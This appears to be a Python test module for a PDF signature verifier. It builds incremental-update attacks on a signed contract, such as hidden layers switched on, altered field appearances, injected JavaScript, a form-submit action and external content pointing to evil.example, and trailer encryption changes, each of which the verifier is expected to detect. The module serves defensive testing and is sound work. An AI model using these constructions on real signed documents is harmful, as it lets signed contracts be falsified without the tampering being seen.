"""Attacks through the form, through actions, layers, attachments, names, the file's encryption, and the structure."""

from __future__ import annotations

import re
from typing import Final

from tests.attacks.cases import attack
from tests.attacks.contracts import (
    AGREED,
    AMOUNT,
    AMOUNT_SHOWN,
    CATALOG,
    CONTENT,
    FIRST,
    FIRST_BOX,
    FIRST_SHOWN,
    FORM,
    FREE,
    PAGE,
    SECOND,
    SIGNATURE,
    STAMP,
    agreed,
    amount,
    amount_shown,
    approved,
    catalog,
    form,
    objects,
    page,
    signature_field,
    signed,
)
from tests.attacks.foreign import saved_by_qpdf, signed_by_pyhanko
from tests.attacks.writing import Objects, drawing, new_document, stream, text, update

_ALL: Final = b"10 0 R 11 0 R 12 0 R 13 0 R"
_SHOWN: Final = b"/V %d 0 R /AP << /N %d 0 R >>" % (SIGNATURE, FIRST_SHOWN)


@attack.each(
    {
        "a script": catalog(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "another page": catalog(b"/OpenAction [4 0 R /Fit]"),
        "scripts of its own": catalog(b"/AA << /WS << /S /JavaScript /JS (1) >> >>"),
        "scripts by name": catalog(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"),
        "files": catalog(b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a) >>] >> >>"),
        "associated files": catalog(b"/AF [<< /Type /Filespec /F (a) >>]"),
        "a collection": catalog(b"/Collection << /D (other.pdf) /View /H >>"),
        "layers": catalog(b"/OCProperties << /OCGs [100 0 R] /D << /OFF [100 0 R] >> >>"),
        "an outline": catalog(b"/Outlines 100 0 R"),
        "a way of showing": catalog(b"/PageMode /FullScreen"),
        "preferences": catalog(b"/ViewerPreferences << /HideToolbar true /PrintPageRange [1 1] >>"),
        "labels of its pages": catalog(b"/PageLabels << /Nums [0 << /P (x) >>] >>"),
        "an address": catalog(b"/URI << /Base (http://evil.example) >>"),
        "an intent": catalog(b"/OutputIntents [<< /S /GTS_PDFA1 >>]"),
        "requirements": catalog(b"/Requirements [<< /S /EnableJavaScripts >>]"),
        "a renderer's needs": catalog(b"/NeedsRendering true"),
        "parts": catalog(b"/DPartRoot 100 0 R"),
        "threads": catalog(b"/Threads [100 0 R]"),
    },
    "content-changed",
)
def catalog_that_gains(changed: bytes) -> bytes:
    """An update gives the document actions, files, layers or ways of being shown that it did not have.

    Source: ISO 32000-2 clauses 7.7.2 and 12.8.2.2 (not among what P 2 allows).
    """
    return update(approved(), {CATALOG: changed, FREE: b"<< /Type /OCG /Name (layer) >>"})


@attack.each(
    {
        "an XFA form": form(b"/SigFlags 3 /XFA 100 0 R"),
        "an order of calculation": form(b"/SigFlags 3 /CO [10 0 R]"),
        "a drawing among its resources": form(b"/SigFlags 3").replace(
            b"/Font <<", b"/XObject << /X 14 0 R >> /Font <<"
        ),
        "another font of that name": form(b"/SigFlags 3").replace(b"9 0 R", b"101 0 R"),
    },
    "content-changed",
)
def form_that_gains(changed: bytes) -> bytes:
    """An update gives the form what decides how fields look or what they hold.

    Source: ISO 32000-2 clauses 12.7.3 and 12.7.8 (XFA).
    """
    xfa = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    other = b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>"
    return update(approved(), {FORM: changed, FREE: xfa, FREE + 1: other})


def bare_amount() -> bytes:
    """The field `amount` with neither an appearance nor a look of its own: the form's holds."""
    return amount(more=b"").replace(b"/DA (/F1 12 Tf 0 g) ", b"")


@attack.each(
    {
        "white letters": form(b"/SigFlags 3").replace(b"/DA (/F1 12 Tf 0 g)", b"/DA (/F1 12 Tf 1 g)"),
        "tiny letters": form(b"/SigFlags 3").replace(b"/DA (/F1 12 Tf 0 g)", b"/DA (/F1 0.1 Tf 0 g)"),
        "another alignment": form(b"/SigFlags 3 /Q 2"),
        "no look": form(b"/SigFlags 3").replace(b"/DA (/F1 12 Tf 0 g)", b""),
    },
    "appearance-changed",
)
def look_of_all_fields(changed: bytes) -> bytes:
    """The form's default look is changed, which is that of a field that has neither appearance nor look of its own.

    Source: ISO 32000-2 clause 12.7.4.3 and table 224, DA and Q (inherited by fields).
    """
    return update(signed(new_document({**objects(), AMOUNT: bare_amount()})), {FORM: changed})


@attack("appearance-changed")
def font_that_was_missing() -> bytes:
    """A field without an appearance names a font that the form does not have; an update brings one with other glyphs.

    Source: ISO 32000-2 clause 12.7.4.3 (the font of DA is one of DR); Mainka et al. 2021, section 4.2.
    """
    field = bare_amount().replace(b"/F 4", b"/F 4 /DA (/Late 12 Tf 0 g)")
    later = form(b"/SigFlags 3").replace(b"/F1 9 0 R", b"/F1 9 0 R /Late 100 0 R")
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>"
    return update(signed(new_document({**objects(), AMOUNT: field})), {FORM: later, FREE: font})


@attack("appearance-changed")
def appearances_made_by_the_viewer() -> bytes:
    """A field showed something else than its value when it was signed; an update asks viewers to draw the value.

    Source: ISO 32000-2 table 224, NeedAppearances; Mainka et al. 2021, section 4.2.
    """
    shadow = {**objects(), AMOUNT: amount(b"(900)"), AMOUNT_SHOWN: amount_shown(b"100")}
    return update(signed(new_document(shadow)), {FORM: form(b"/SigFlags 3 /NeedAppearances true")})


@attack.each(
    {
        "a text": {FORM: form(fields=_ALL + b" 100 0 R"), FREE: b"<< /FT /Tx /T (new) /V (900) >>"},
        "a shown text": {
            FORM: form(fields=_ALL + b" 100 0 R"),
            PAGE: page(annotations=_ALL + b" 100 0 R"),
            FREE: amount(b"(900)").replace(b"(amount)", b"(new)"),
        },
        "one of the same name": {FORM: form(fields=_ALL + b" 100 0 R"), FREE: amount(b"(900)")},
        "a widget of a field": {
            AMOUNT: b"<< /FT /Tx /T (amount) /V (100) /Kids [100 0 R] >>",
            FREE: b"<< /Type /Annot /Subtype /Widget /Parent 10 0 R /Rect [0 0 595 842] /AP << /N 15 0 R >> >>",
        },
        "fewer": {FORM: form(fields=b"11 0 R 12 0 R 13 0 R")},
        "another order on the page": {PAGE: page(annotations=b"13 0 R 12 0 R 11 0 R 10 0 R")},
        "none on the page": {PAGE: page(annotations=b"12 0 R")},
        "one on another page": {
            4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 8 0 R /Contents 7 0 R "
            b"/Annots [10 0 R] >>"
        },
        "one without a kind": {AMOUNT: amount().replace(b"/FT /Tx ", b"")},
        "one under another name": {AMOUNT: amount().replace(b"(amount)", b"(sum)")},
    }
)
def fields(changed: Objects) -> bytes:
    """Fields or their widgets are added, taken away, doubled, or put into another order or place.

    Source: ISO 32000-2 clauses 12.7.4 and 12.8.2.2 (filling in, not making).
    """
    return update(approved(), changed)


@attack.each(
    {
        "a script for keys": b"/AA << /K << /S /JavaScript /JS (1) >> >>",
        "a script to show": b"/AA << /F << /S /JavaScript /JS (1) >> >>",
        "a script to compute": b"/AA << /C << /S /JavaScript /JS (1) >> >>",
        "an action": b"/A << /S /SubmitForm /F (http://evil.example) >>",
    },
    "content-changed",
)
def field_that_does(more: bytes) -> bytes:
    """A field that is filled in gets an action as well.

    Source: ISO 32000-2 clause 12.6.3; Rohlmann et al. 2021, section 4.3.
    """
    filled = amount(b"(200)", b"/AP << /N 15 0 R >> " + more)
    return update(approved(), {AMOUNT: filled, AMOUNT_SHOWN: amount_shown(b"200")})


@attack.each(
    {
        "another drawing": {FIRST_SHOWN: drawing(text(b"Signed by nobody", 4, 20, 10), b"0 0 200 60")},
        "another appearance": {
            FIRST: signature_field(b"first", FIRST_BOX, b"/V %d 0 R /AP << /N 14 0 R >>" % SIGNATURE)
        },
        "no appearance": {FIRST: signature_field(b"first", FIRST_BOX, b"/V %d 0 R" % SIGNATURE)},
        "no visibility": {FIRST: signature_field(b"first", FIRST_BOX, _SHOWN).replace(b"/F 132", b"/F 2")},
        "another name": {FIRST: signature_field(b"third", FIRST_BOX, _SHOWN)},
        "a caption": {FIRST: signature_field(b"first", FIRST_BOX, _SHOWN + b" /MK << /CA (void) >>")},
        "a larger place": {FIRST: signature_field(b"first", b"60 500 400 760", _SHOWN)},
        "a lock": {FIRST: signature_field(b"first", FIRST_BOX, _SHOWN + b" /Lock << /Action /All >>")},
        "a tooltip": {FIRST: signature_field(b"first", FIRST_BOX, _SHOWN + b" /TU (void)")},
        "a seed value": {FIRST: signature_field(b"first", FIRST_BOX, _SHOWN + b" /SV << /Ff 1 >>")},
    }
)
def signed_field_with(changed: Objects) -> bytes:
    """What a signed field shows, where, or under which name, is changed.

    Source: ISO 32000-2 clause 12.7.5.5; VERIFY.md, list, 2.
    """
    return update(approved(), changed)


@attack.each(
    {
        "a reason": (b"(I agree)", b"(Receipt)"),
        "a name": (b"(Signer)", b"(Nobody)"),
        "a time": (b"(D:20260101000000Z)", b"(D:20200101000000Z)"),
    },
    "signature-dictionary-rewritten",
)
def dictionary_that_says_another(change: tuple[bytes, bytes]) -> bytes:
    """An update writes the signature dictionary anew; its value and range stay, and what it says is another thing.

    Source: VERIFY.md, list, 5; ISO 32000-2 table 255 (Reason, Name, M).
    """
    document = approved()
    found = re.search(rb"\n%d 0 obj\n(.*?)\nendobj" % SIGNATURE, document, re.DOTALL)
    if found is None:
        raise LookupError("the contract has no signature")
    return update(document, {SIGNATURE: found.group(1).replace(*change)})


def layered() -> bytes:
    """A contract one of whose layers is off."""
    layers = catalog(b"/OCProperties << /OCGs [100 0 R] /D << /OFF [100 0 R] >> >>")
    marked = stream(text(b"The insurer pays 100.") + b" /OC /Layer BDC " + text(b"and 900 more", 60, 660) + b" EMC")
    resources = b"<< /Font << /F1 9 0 R >> /XObject << /Stamp 14 0 R >> /Properties << /Layer 100 0 R >> >>"
    more = {CATALOG: layers, CONTENT: marked, 8: resources, FREE: b"<< /Type /OCG /Name (layer) >>"}
    return signed(new_document({**objects(), **more}))


@attack.each(
    {
        "on": {CATALOG: catalog(b"/OCProperties << /OCGs [100 0 R] /D << /ON [100 0 R] >> >>")},
        "on when printed": {
            FREE: b"<< /Type /OCG /Name (layer) /Usage << /Print << /PrintState /ON >> /View << /ViewState /ON >> >> >>"
        },
        "off for good": {CATALOG: catalog()},
        "a member of others": {FREE: b"<< /Type /OCMD /OCGs [] /P /AllOff >>"},
    },
    "content-changed",
)
def layer_that_is_switched(changed: Objects) -> bytes:
    """A layer that was off when the document was signed is switched on.

    Source: Mainka et al. 2021, section 4.1 (hide); ISO 32000-2 clause 8.11.
    """
    return update(layered(), changed)


@attack.each(
    {
        "of another kind": {STAMP: stream(b"0 0 1 RG", b"/Type /XObject /Subtype /PS")},
        "outside the file": {STAMP: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (other.pdf)")},
        "of another file": {
            STAMP: drawing(b"", b"0 0 9 9", b"/Ref << /F (other.pdf) /Page 0 >>"),
        },
        "content outside the file": {
            CONTENT: b"<< /Length 0 /F << /Type /Filespec /FS /URL /F (http://evil.example) >> >>\nstream\n\nendstream"
        },
    },
    "content-changed",
)
def stream_that_comes_from(changed: Objects) -> bytes:
    """What the page draws is taken from outside the file.

    Source: ISO 32000-2 clauses 7.3.8.2 (external streams) and 8.10.4 (reference XObjects).
    """
    return update(approved(), changed)


@attack.each({"another key": b"/Encrypt 100 0 R", "another identity": b"/ID [<00> <00>]"})
def encryption(entry: bytes) -> bytes:
    """An update's trailer says that the file is encrypted, or names another key: readers see noise or something else.

    Source: ISO 32000-2 clause 7.6; Müller et al., "Practical Decryption exFiltration", ACM CCS 2019.
    """
    if b"/ID" in entry:
        saved = saved_by_qpdf(
            new_document(objects()), "--allow-weak-crypto", "--encrypt", "", "o", "128", "--use-aes=n", "--"
        )
        document = signed_by_pyhanko(saved, password="")
        reference = re.findall(rb"/Encrypt \d+ 0 R", document)[-1]
        root = re.findall(rb"/Root (\d+) 0 R", document)[-1]
        changed = update(document, {}, root=int(root), trailer=reference)
        return document + changed[len(document) :].replace(b"<0123456789abcdef>", b"<ffffffffffffffff>")
    dictionary = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s> >>" % (b"00" * 32, b"00" * 32)
    return update(approved(), {FREE: dictionary}, trailer=entry)


@attack.each(
    {
        "the places of tags": {
            CATALOG: catalog(b"/StructTreeRoot 100 0 R"),
            FREE: b"<< /Type /StructTreeRoot /K [] >>",
        },
    },
    "structure-changed",
)
def structure_of_a_closed_document(changed: Objects) -> bytes:
    """A document that was certified for nothing gets another structure, which is what is read aloud.

    Source: ISO 32000-2 clauses 14.7 and 12.8.2.2, P 1.
    """
    from tests.attacks.contracts import certified_for_nothing  # noqa: PLC0415

    return update(certified_for_nothing(), changed)


@attack.each({"the first": SECOND, "the box": AGREED})
def value_without_an_appearance_of_its_own(number: int) -> bytes:
    """A checkbox shows the state that it does not have; a place to sign shows something though it is empty.

    Source: ISO 32000-2 clauses 12.7.5.2.3 (V and AS are the same) and 12.7.5.5; VERIFY.md, list, 2.
    """
    if number == AGREED:
        return update(approved(), {AGREED: agreed().replace(b"/AS /Off", b"/AS /Yes")})
    shown = signature_field(b"second", b"300 500 500 560", b"/AP << /N 16 0 R >>")
    return update(approved(), {SECOND: shown})
